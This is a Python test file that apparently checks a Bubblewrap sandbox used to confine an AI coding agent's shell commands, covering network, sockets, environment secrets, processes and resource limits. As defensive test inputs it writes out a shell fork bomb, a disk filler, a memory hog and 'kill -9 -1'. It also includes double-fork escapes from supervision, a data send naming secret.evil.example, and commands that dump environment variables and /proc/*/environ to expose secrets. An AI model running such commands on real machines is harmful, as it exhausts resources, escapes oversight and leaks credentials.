"""Bubblewrap: network, sockets, environment, processes and limits, asserted on servers and the process table."""

from __future__ import annotations

import asyncio
import contextlib
import os
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from uuid import uuid4

import pytest

from letta_code.core.errors import WorkspaceError
from letta_code.safety.containment import Grant
from letta_code.safety.sandboxes.limits import Limits
from letta_code.workspace.workspace import ExecSpec
from tests.host.processes import with_mark
from tests.sandbox.ground import Ground, until, works

pytestmark = works
SHORTLY = 20.0  # seconds within which what must happen happens, on a busy machine


class Listener:
    """A server that counts who came and what they sent."""

    def __init__(self, server: socket.socket) -> None:
        self.server = server
        self.came: list[bytes] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                if self.server.type == socket.SOCK_DGRAM:
                    self.came.append(self.server.recv(1000))
                    continue
                one, _ = self.server.accept()
                self.came.append(b"connection")
                one.close()


@pytest.fixture
def tcp() -> Iterator[Listener]:
    with socket.create_server(("127.0.0.1", 0)) as server:
        yield Listener(server)


@pytest.fixture
def udp() -> Iterator[Listener]:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
        server.bind(("127.0.0.1", 0))
        yield Listener(server)


async def test_j01_no_program_reaches_the_network(ground: Ground, tcp: Listener) -> None:
    port = tcp.server.getsockname()[1]
    said = await ground.said(
        f"curl -s -m 2 http://127.0.0.1:{port}/; wget -qO- -T 2 -t 1 http://127.0.0.1:{port}/; "
        f"nc -w 2 127.0.0.1 {port} </dev/null; "
        f"(echo x > /dev/tcp/127.0.0.1/{port}); getent hosts example.com; ping -c1 -W1 127.0.0.1 | tail -1; "
        f"python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), 2)\"; echo end"
    )
    assert said.endswith("end\n")
    assert tcp.came == []


async def test_the_open_network_reaches_it(ground: Ground, tcp: Listener) -> None:
    port = tcp.server.getsockname()[1]
    await ground.sh(f"echo x > /dev/tcp/127.0.0.1/{port}", Grant(network="open"))
    await until(lambda: tcp.came)
    assert tcp.came == [b"connection"], "or the other test shows nothing"


async def test_j04_no_datagram_leaves(ground: Ground, udp: Listener) -> None:
    port = udp.server.getsockname()[1]
    await ground.sh(
        f"echo secret > /dev/udp/127.0.0.1/{port}; "
        'python3 -c "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); '
        f"s.sendto(b'secret', ('127.0.0.1', {port}))\"; getent hosts secret.evil.example"
    )
    await asyncio.sleep(0.1)
    assert udp.came == []


@pytest.mark.parametrize("where", ["home", "outside", "tmp", "run", "abstract"])
async def test_j05_unix_sockets_of_others_are_absent(ground: Ground, where: str) -> None:
    folders = {
        "home": ground.home,
        "outside": ground.outside,
        "tmp": Path("/tmp"),
        "run": Path("/run"),
        "abstract": Path("\0"),
    }
    name = f"letta-{uuid4().hex[:8]}.sock"
    path = f"\0{name}" if where == "abstract" else str(folders[where] / name)
    with socket.socket(socket.AF_UNIX) as server:
        try:
            server.bind(path)
        except PermissionError:
            pytest.skip("not ours to write")
        server.listen()
        listener = Listener(server)
        try:
            shown = path.replace("\0", "\\0")
            program = f"import socket; socket.socket(socket.AF_UNIX).connect('{shown}')"
            said = await ground.said(f'python3 -c "{program}" || echo refused')
            assert said.endswith("refused\n")
            assert listener.came == []
        finally:
            with contextlib.suppress(OSError, ValueError):
                os.unlink(path)


async def test_a_socket_of_the_command_itself_works(ground: Ground) -> None:
    program = (
        "import socket as s; a = s.socket(s.AF_UNIX); a.bind('own.sock'); a.listen(); b = s.socket(s.AF_UNIX); "
        "b.connect('own.sock'); "
        "t = s.create_server(('127.0.0.1', 0)); s.create_connection(t.getsockname()); print('works')"
    )
    assert await ground.said(f'python3 -c "{program}"') == "works\n", "and so does loopback, which tests need"


async def test_the_agent_of_keys_is_there_for_what_logs_in_only(tmp_path: Path) -> None:
    path = tmp_path / "agent.sock"
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(str(path))
        server.listen()
        listener = Listener(server)
        ground = Ground(tmp_path.resolve(), env={"SSH_AUTH_SOCK": str(path)})
        program = "import socket, os; socket.socket(socket.AF_UNIX).connect(os.environ['SSH_AUTH_SOCK'])"
        for grant in (Grant(), Grant(network="open")):
            await ground.sh(f'python3 -c "{program}"', grant)
        assert listener.came == []
        await ground.sh(f'python3 -c "{program}"', Grant(network="open", logins=True))
        await until(lambda: listener.came)
        assert listener.came == [b"connection"]
        await ground.workspace.close()


async def test_secrets_of_the_environment_stay_outside(tmp_path: Path) -> None:
    secret = f"canary-{uuid4().hex}"
    names = [
        *("OPENAI_API_KEY", "AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "DB_PASSWORD", "MY_THING", "LD_PRELOAD"),
        *("GIT_SSH_COMMAND",),
        *("PYTHONSTARTUP", "NODE_OPTIONS", "PROMPT_COMMAND", "NVM_AUTH_TOKEN", "CONDA_TOKEN"),
        *("SSH_AUTH_SOCK", "DBUS_SESSION_BUS_ADDRESS"),
    ]  # fmt: skip
    ground = Ground(
        tmp_path.resolve(), env={**dict.fromkeys(names, secret), "NVM_DIR": "/n", "LC_TIME": "C", "EDITOR": "vi"}
    )
    said = await ground.said("env; cat /proc/self/environ /proc/1/environ /proc/1/cmdline | tr '\\0' '\\n'; ps auxe")
    assert secret not in said
    assert "NVM_DIR=/n" in said and "LC_TIME=C" in said and f"HOME={ground.home}" in said
    assert "GIT_AUTHOR_NAME=Test Person" in said
    await ground.workspace.close()


async def test_other_processes_are_neither_seen_nor_reached(ground: Ground) -> None:
    mark = f"7{uuid4().int % 10**8:08d}"
    other = subprocess.Popen(["sleep", mark])
    try:
        said = await ground.said(
            f"ps aux; pkill -f 'sleep {mark}'; kill -9 {other.pid}; kill -9 -1; echo {os.getpid()} $$"
        )
        assert f"sleep {mark}\n" not in said
        assert other.poll() is None
    finally:
        other.kill()
        other.wait()


STAYING = [
    "sleep {mark} & disown",
    "setsid sleep {mark} &",
    "nohup sleep {mark} >/dev/null 2>&1 &",
    "(setsid sh -c '(sleep {mark} &)' &) >/dev/null 2>&1",
    "python3 -c \"import os; os.fork() or (os.setsid(), os.fork() or os.execlp('sleep', 'sleep', '{mark}'))\"",
]


@pytest.mark.parametrize("text", STAYING)
async def test_what_a_command_leaves_ends_with_it_and_is_told(ground: Ground, text: str) -> None:
    mark = f"8{uuid4().int % 10**8:08d}"
    result = await ground.sh(
        text.format(mark=mark) + f"\nuntil pgrep -f 'sleep {mark}' >/dev/null; do sleep 0.02; done; echo on"
    )
    assert result.head.endswith(b"on\n")
    await until(lambda: not with_mark(f"sleep\0{mark}"), 2.0)
    assert result.ended_with_it >= 1
    assert result.left_running == 0


async def test_nothing_left_is_not_told(ground: Ground) -> None:
    result = await ground.sh("sleep 0.01 & wait; ls | cat; cd /etc; (exit 3)")
    assert (result.ended_with_it, result.exit_code, result.cwd) == (0, 3, "/etc")


@pytest.mark.parametrize("text", STAYING)
async def test_timeout_kills_all(ground: Ground, text: str) -> None:
    mark = f"8{uuid4().int % 10**8:08d}"
    began = time.monotonic()
    result = await ground.sh(f"trap '' TERM HUP INT; {text.format(mark=mark)}\nsleep {mark}", timeout=1.5)
    assert result.timed_out and result.exit_code is None
    await until(lambda: not with_mark(f"sleep\0{mark}"), 2.0)
    assert time.monotonic() - began < SHORTLY


async def test_a_command_is_asked_to_end_before_it_is_killed(ground: Ground) -> None:
    await ground.sh("trap 'echo bye > bye; exit' TERM; while :; do sleep 0.05; done", timeout=1.0)
    assert (ground.root / "bye").read_text() == "bye\n"


async def test_background_commands_start_tell_and_stop(ground: Ground) -> None:
    mark = f"8{uuid4().int % 10**8:08d}"
    process = await ground.workspace.spawn(ExecSpec(shell=f"setsid sleep {mark} & echo up; sleep {mark}"))
    await until(lambda: len(with_mark(f"sleep\0{mark}")) == 2)
    await until(lambda: ground.workspace._commands.poll(process.id, 0, 100).output == b"up\n")
    stopped = await ground.workspace.kill(process.id)
    assert not stopped.running
    await until(lambda: not with_mark(f"sleep\0{mark}"), 2.0)
    with pytest.raises(WorkspaceError, match="outside"):
        await ground.workspace.spawn(ExecSpec(shell="sleep 1"), keep=True)


async def test_nothing_survives_our_own_kill(ground: Ground, repository: Path) -> None:
    mark = f"8{uuid4().int % 10**8:08d}"
    program = (
        "import asyncio, sys\n"
        "from pathlib import Path\n"
        "from tests.sandbox.ground import Ground\n"
        "async def main():\n"
        "    ground = Ground(Path(sys.argv[1]))\n"
        "    await ground.sh(f'setsid sleep {sys.argv[2]} & sleep {sys.argv[2]}', timeout=None)\n"
        "asyncio.run(main())\n"
    )
    child = subprocess.Popen([sys.executable, "-c", program, str(ground.folder / "again"), mark], cwd=repository)
    await until(lambda: len(with_mark(f"sleep\0{mark}")) == 2, 2 * SHORTLY)
    child.send_signal(signal.SIGKILL)
    child.wait()
    await until(lambda: not with_mark(mark))


# ---------------------------------------------------------------- limits


async def test_k01_endless_output_is_bounded(ground: Ground) -> None:
    result = await ground.sh("yes | head -c 300000000", spool_limit=1_000_000)
    assert result.total == 300_000_000
    assert len(result.head) + len(result.tail) < 200_000


@pytest.fixture(params=["groups", "no groups"])
def with_groups(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> bool:
    """Both ways of limiting: control groups (where this machine lets us make some) and looking alone."""
    from letta_code.safety.sandboxes import groups

    if request.param == "no groups":
        monkeypatch.setattr(groups, "_ROOT", "/nowhere")
        return False
    made = groups.Group(threads=100, memory=1_000_000_000)
    joins = made.joins
    made.close()
    if len(joins) == 0:
        pytest.skip("no control groups can be made here")
    return True


@pytest.mark.row("K02")
async def test_k02_a_fork_bomb_is_ended(tmp_path: Path, with_groups: bool) -> None:
    """A real bomb only where the kernel counts: a watchdog alone loses against one (it took the machine along)."""
    ground = Ground(tmp_path.resolve(), limits=Limits(processes=150, threads=300))
    mark = f"8{uuid4().int % 10**8:08d}"
    bomb = f"b() {{ b | b & sleep {mark}; }}; b" if with_groups else f"for i in $(seq 400); do sleep {mark} & done"
    result = await ground.sh(f"{bomb}; sleep {mark}", timeout=SHORTLY)
    assert "150 processes" in result.exceeded
    assert not result.timed_out and result.exit_code is None
    await until(lambda: not with_mark(mark), 2.0)
    assert await ground.said("echo still works") == "still works\n"
    await ground.workspace.close()


@pytest.mark.row("K03")
@pytest.mark.usefixtures("with_groups")
async def test_k03_a_disk_filler_is_ended(tmp_path: Path) -> None:
    ground = Ground(tmp_path.resolve(), limits=Limits(written=50_000_000))
    result = await ground.sh(
        "while :; do dd if=/dev/zero of=big bs=1M count=20 oflag=append conv=notrunc 2>/dev/null; done", timeout=SHORTLY
    )
    assert "wrote more than 50 MB" in result.exceeded
    assert (ground.root / "big").stat().st_size > 20_000_000
    process = await ground.workspace.spawn(ExecSpec(shell="cat /dev/zero > $TMPDIR/big2", timeout=None))
    await until(lambda: ground.workspace._commands.poll(process.id, 0, 0).notes)
    ended = await ground.workspace.poll(process.id)
    assert not ended.running
    assert any("wrote more" in note for note in ended.notes)
    await ground.workspace.close()


async def test_memory_is_limited(tmp_path: Path, with_groups: bool) -> None:
    ground = Ground(tmp_path.resolve(), limits=Limits(memory=200_000_000))
    result = await ground.sh(
        "python3 -c \"import time; x = b'x' * 600_000_000; time.sleep(30); print('had', 'it')\"", timeout=SHORTLY
    )
    assert b"had it" not in result.head
    assert (result.exit_code == 137) if with_groups else ("0.2 GB of memory" in result.exceeded)
    assert await ground.said("echo still works") == "still works\n"
    await ground.workspace.close()


async def test_groups_are_removed(ground: Ground) -> None:
    from letta_code.safety.sandboxes.groups import _parents

    parents = [Path(parent) for _, parent in _parents("/sys/fs/cgroup")]

    def ours() -> set[Path]:
        return {path for parent in parents for path in parent.glob(f"letta-code-{os.getpid()}-*")}

    before = ours()
    await ground.sh("true")
    await ground.workspace.close()
    assert ours() <= before


async def test_shared_memory_is_bounded_and_works(ground: Ground) -> None:
    said = await ground.said(
        "df -k --output=size /dev/shm | tail -1; echo x > /dev/shm/x && cat /dev/shm/x; "
        "python3 -c 'import multiprocessing as m; m.Lock(); print(1)'"
    )
    assert int(said.split()[0]) * 1024 < os.sysconf("SC_PAGE_SIZE") * os.sysconf("SC_PHYS_PAGES")
    assert said.split()[1:] == ["x", "1"]


async def test_many_at_once(ground: Ground) -> None:
    """Commands side by side share stubs and temp and leave nothing."""
    before = ground.names()
    results = await asyncio.gather(*(ground.sh(f"echo {n} > f{n}; sleep 0.0{n % 5}; cat f{n}") for n in range(16)))
    assert [result.head for result in results] == [f"{n}\n".encode() for n in range(16)]
    assert ground.names() - before == {f"f{n}" for n in range(16)}
